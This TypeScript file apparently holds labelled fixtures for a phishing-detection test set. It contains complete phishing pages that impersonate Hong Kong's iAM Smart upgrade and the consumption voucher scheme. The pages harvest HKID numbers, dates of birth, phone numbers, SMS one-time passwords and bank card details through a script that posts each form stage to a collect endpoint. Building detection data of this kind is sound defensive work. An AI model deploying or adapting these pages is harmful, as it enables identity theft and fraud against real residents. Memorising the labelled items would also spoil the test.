import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, cardFields, cardFormatJs, luhnJs, footer, b64, hexEsc, xorB64 } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yq-iamsmart-upgrade-hkid-otp',
    label: 'phishing',
    kind: 'gov-kit-hk',
    url: 'https://iamsmart-gov.hk-upgrade.net/tc/upgrade',
    body: doc({
      title: '「智方便」帳戶升級',
      css:
        baseCss(fontTC, '#f4f9f5') +
        `.t{background:#2b7a3d;color:#fff;padding:18px;text-align:center}.w{max-width:460px;margin:0 auto;padding:16px}
.go{background:#2b7a3d;color:#fff;width:100%;height:46px;border-radius:23px}
.i{background:#fff;border-radius:8px;padding:16px;margin-bottom:12px}`,
      body: `<div class="t"><h2 style="margin:0">iAM Smart 智方便</h2><p style="margin:4px 0 0;font-size:13px">數字政策辦公室</p></div>
<div class="w">
<div class="i"><p style="margin:0">由於系統升級至「智方便+」，閣下須於 <b>2024 年 6 月 30 日</b>前重新驗證身份，否則將無法使用「數碼簽署」及政府網上服務。</p></div>
<form class="i" id="f">
<div class="field"><label>英文全名 (與身份證相同)</label><input name="en" required></div>
<div class="field"><label>香港身份證號碼</label><input name="hkid" placeholder="A123456(7)" required></div>
<div class="field"><label>出生日期</label><input name="dob" type="date" required></div>
<div class="field"><label>手機號碼</label><input name="mob" inputmode="tel" maxlength="8" required></div>
<div class="field" id="ob" style="display:none"><label>短訊一次性密碼</label><input name="otp" maxlength="6"></div>
<button class="btn go" id="b">獲取驗證碼</button>
</form>
<p class="hint" style="text-align:center">查詢熱線 182 123</p></div>
<script>
var stage=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));d.stage=stage;
fetch('/tc/api/collect',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)});
if(stage===0){stage=1;document.getElementById('ob').style.display='block';document.getElementById('b').textContent='完成升級';}
else{document.body.innerHTML='<div class="w"><div class="i"><h3>升級成功</h3><p>閣下的帳戶將於 24 小時內完成升級。</p></div></div>';}};
</script>`,
    }),
    routes: { 'iamsmart-gov.hk-upgrade.net/tc/api/collect': jsonRoute({ ok: true }) },
  },
  {
    id: 'yq-hk-consumption-voucher-register',
    label: 'phishing',
    kind: 'gov-kit-hk',
    url: 'https://consumptionvoucher-gov.hk-cv.com/tc/register.html',
    body: doc({
      title: '消費券計劃 - 登記',
      css:
        baseCss(fontTC, '#fff8ef') +
        `.top{background:#f08300;color:#fff;padding:22px 0;text-align:center}.top h1{margin:0;font-size:26px}
.w{max-width:640px;margin:20px auto;background:#fff;padding:24px;border-radius:8px}
.svp{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin:10px 0 18px}.svp label{border:1px solid #eee;border-radius:6px;padding:10px;text-align:center;font-size:13px;cursor:pointer}
.go{background:#f08300;color:#fff;width:100%;height:46px}`,
      body: `<div class="top"><h1>2024 消費券計劃</h1><p style="margin:6px 0 0">第二期 HK$2,000 電子消費券 · 補領登記</p></div>
<form class="w" method="post" action="/tc/submit.php">
<p>未有領取第二期消費券的合資格人士，請於 <b>5 月 15 日</b>前完成補領登記。消費券將存入閣下選擇的儲值支付工具。</p>
<div class="field"><label>英文姓名</label><input name="name" required></div>
<div class="field"><label>香港身份證號碼</label><input name="hkid" required></div>
<div class="field"><label>出生日期</label><input name="dob" placeholder="DD/MM/YYYY" required></div>
<div class="field"><label>手機號碼</label><input name="mob" inputmode="tel" required></div>
<label style="font-size:13px;color:#555">選擇收取消費券的支付工具</label>
<div class="svp"><label><input type="radio" name="svf" value="octopus" checked> 八達通</label><label><input type="radio" name="svf" value="alipayhk"> AlipayHK</label><label><input type="radio" name="svf" value="wechathk"> WeChat Pay HK</label><label><input type="radio" name="svf" value="tapgo"> Tap & Go</label><label><input type="radio" name="svf" value="boc"> BoC Pay</label><label><input type="radio" name="svf" value="payme"> PayMe</label></div>
<p style="font-size:13px">為核實身份，請提供一張以閣下名義發出的銀行卡：</p>
${cardFields('tc')}
<button class="btn go">提交登記</button>
<p class="hint">香港特別行政區政府 · 消費券計劃查詢熱線 18 5000</p>
</form><script>${cardFormatJs}</script>`,
    }),
    routes: { 'consumptionvoucher-gov.hk-cv.com/tc/submit.php': redirectRoute(302, 'https://www.consumptionvoucher.gov.hk/') },
  },
];
